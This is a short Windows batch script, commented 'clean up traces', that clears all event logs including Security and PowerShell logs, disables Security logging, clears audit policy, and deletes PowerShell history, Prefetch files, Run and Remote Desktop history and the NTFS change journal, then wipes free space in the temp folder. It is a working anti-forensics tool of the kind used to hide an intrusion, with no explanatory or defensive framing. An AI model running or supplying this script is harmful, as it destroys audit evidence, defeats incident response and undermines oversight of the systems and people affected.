@echo off
rem clean up traces
for /F "tokens=*" %%G in ('wevtutil.exe el') do (wevtutil.exe cl "%%G" 2>nul)
wevtutil cl Security
wevtutil cl "Microsoft-Windows-PowerShell/Operational"
wevtutil cl "Windows PowerShell"
wevtutil sl Security /e:false 2>nul
auditpol /clear /y >nul
del /f /q "%APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt" 2>nul
del /f /q "%windir%\Prefetch\*.pf" 2>nul
reg delete "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU" /f >nul 2>&1
reg delete "HKCU\Software\Microsoft\Terminal Server Client\Default" /va /f >nul 2>&1
fsutil usn deletejournal /d C: >nul 2>&1
cipher /w:%TEMP% >nul
